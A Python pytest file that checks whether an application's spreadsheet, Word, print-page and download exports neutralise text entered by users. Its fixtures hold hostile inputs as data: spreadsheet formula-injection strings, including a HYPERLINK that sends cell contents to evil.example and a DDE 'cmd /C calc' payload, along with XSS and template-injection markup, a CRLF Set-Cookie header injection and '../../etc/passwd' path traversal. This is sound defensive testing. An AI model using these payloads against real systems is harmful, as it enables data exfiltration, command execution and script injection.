"""What users write is data in every file and page that is handed out: no formula, no markup, no header."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi import FastAPI
from starlette.testclient import TestClient

from forms.table import Indicator, SelfEvaluationTable
from store.desk import Desk, edited
from store.reviews import Paper, RowReview
from store.store import Store
from ui import exports, session
from ui.outer import Outer
from ui.session import Office
from ui.shelf import Shelf
from ui.tokens import COOKIE

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "{=1}")
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'`{{7*7}}${7*7}"
NAME = "..\\../a\"b\r\nSet-Cookie: x=1;<b>=cmd|'/C calc'!A1"


@pytest.fixture
def office(tmp_path: Path) -> Iterator[Office]:
    store = Store(tmp_path)
    yield Office(Shelf(store))
    store.close()


@pytest.fixture
def desk(office: Office) -> Desk:
    """A table whose every text tries something."""
    rows = tuple(
        Indicator(row=n, level3=text, target=text, actual=text, points="10", score="10", deviation_note=text)
        for n, text in enumerate((*FORMULAS, MARKUP), start=1)
    )
    table = SelfEvaluationTable(project_name=NAME, goal=MARKUP, narrative=FORMULAS[0], indicators=rows)
    user = office.store.accounts.single_user().id
    made = edited(Desk(id="d1", origin="paste", file=NAME, original=table), "goal", FORMULAS[0])
    kept = session.save(office, user, made)
    session.ignore(office, user, "d1", "SC01", 1, FORMULAS[1])
    office.store.reviews.save(
        user, "d1", Paper(rows={1: RowReview(opinion=FORMULAS[0])}, opinion=f"{FORMULAS[0]}\n{MARKUP}")
    )
    return kept


@pytest.mark.parametrize("kind", ["xlsx", "list", "all", "paper"])
def test_no_workbook_holds_a_formula_a_link_or_markup_of_a_user(office: Office, desk: Desk, kind: str) -> None:
    made = exports.export(office, office.store.accounts.single_user().id, kind, desk.id)
    with zipfile.ZipFile(io.BytesIO(made.content)) as archive:
        sheets = {n: archive.read(n).decode() for n in archive.namelist() if n.endswith((".xml", ".rels"))}
    assert not [name for name, xml in sheets.items() if re.search(r"<(f|formula1|hyperlink)[ >/]", xml)]
    assert not [name for name, xml in sheets.items() if "<script" in xml or 'TargetMode="External"' in xml]
    assert any("HYPERLINK" in xml for xml in sheets.values())  # the text itself is there


@pytest.mark.parametrize("kind", ["docx", "opinion"])
def test_no_document_holds_a_field_a_link_or_markup_of_a_user(office: Office, desk: Desk, kind: str) -> None:
    made = exports.export(office, office.store.accounts.single_user().id, kind, desk.id)
    with zipfile.ZipFile(io.BytesIO(made.content)) as archive:
        parts = {n: archive.read(n).decode() for n in archive.namelist() if n.endswith((".xml", ".rels"))}
    assert not [n for n, xml in parts.items() if re.search(r"<w:(instrText|fldSimple|hyperlink|altChunk)\b", xml)]
    assert not [n for n, xml in parts.items() if "<script" in xml]
    assert "HYPERLINK" in parts["word/document.xml"]


def test_the_page_for_printing_holds_no_markup_of_a_user(office: Office, desk: Desk) -> None:
    html = exports.print_page(office, office.store.accounts.single_user().id, desk.id)
    assert "<script>alert" not in html
    assert "<img" not in html
    assert "&lt;script&gt;alert" in html
    assert "49" not in html  # nothing in a cell is a template


def test_a_name_is_no_path_no_header_and_no_formula_in_a_download(office: Office, desk: Desk) -> None:
    app = FastAPI()
    exports.add_routes(app, office)
    browser = TestClient(Outer(app), base_url="http://127.0.0.1", cookies={COOKIE: "page"})
    for kind in ("xlsx", "docx", "list", "all", "paper", "opinion"):
        answer = browser.get(f"/export/{kind}?desk={desk.id}")
        assert answer.status_code == 200, answer.text
        told = answer.headers["content-disposition"]
        assert re.fullmatch(r"attachment; filename\*=UTF-8''[A-Za-z0-9%._~-]+", told), told
        assert not re.search(r"%(2F|5C|0D|0A|22|3C|00)", told, re.I)
        assert "x=1" not in answer.headers.get("set-cookie", "")
        assert answer.headers["cache-control"] == "no-store"


@pytest.mark.parametrize("kind", ["../../etc/passwd", "own%00", "XLSX", "xlsx.exe", "__class__"])
def test_no_other_kind_of_export_can_be_asked_for(office: Office, desk: Desk, kind: str) -> None:
    with pytest.raises(session.Refusal):
        exports.export(office, office.store.accounts.single_user().id, kind, desk.id)
